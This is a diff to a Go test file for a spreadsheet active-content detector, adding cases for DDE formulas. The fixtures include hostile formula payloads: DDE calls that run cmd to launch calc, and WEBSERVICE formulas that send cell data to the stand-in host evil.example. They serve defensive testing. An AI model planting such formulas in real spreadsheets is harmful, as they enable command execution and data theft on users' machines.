@@ -68,6 +68,7 @@ func TestActiveContent(t *testing.T) {
 	}{
 		{"dde", withFormula(`cmd|'/C calc'!A0`), RiskDDE, []string{"DDE 公式", "cmd|'/C calc'!A0", SheetMain + "!Z40"}},
 		{"dde msexcel", withFormula(`MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc.exe'!''`), RiskDDE, []string{"DDE 公式"}},
+		{"dde unquoted", withFormula(`SUM(1)+DDEAPP|TOPIC!ITEM`), RiskDDE, []string{"DDE 公式"}},
 		{"ddeauto", withFormula(`DDEAUTO("cmd","/c calc")`), RiskDDE, []string{"DDE 公式"}},
 		{"webservice", withFormula(`WEBSERVICE("http://evil.example/?d="&B1)`), RiskWebService, []string{"WEBSERVICE", "evil.example"}},
 		{"webservice xlfn", withFormula(`_xlfn.WEBSERVICE("http://evil.example/")`), RiskWebService, []string{"WEBSERVICE"}},
@@ -110,6 +111,10 @@ func TestActiveContent(t *testing.T) {
 				}
 			}
 		})
+	}
+	// A pipe inside a text literal is no DDE call.
+	if r := ActiveContent(withFormula(`CONCATENATE("a|'b'!c","x")`)(t)); len(r) != 0 {
+		t.Errorf("a text literal flagged: %+v", r)
 	}
 	for _, name := range []string{"good.xlsx", "libreoffice.xlsx", "legacy.xls", "not_sheet.pdf"} {
 		if r := ActiveContent(readFixture(t, name)); len(r) != 0 {
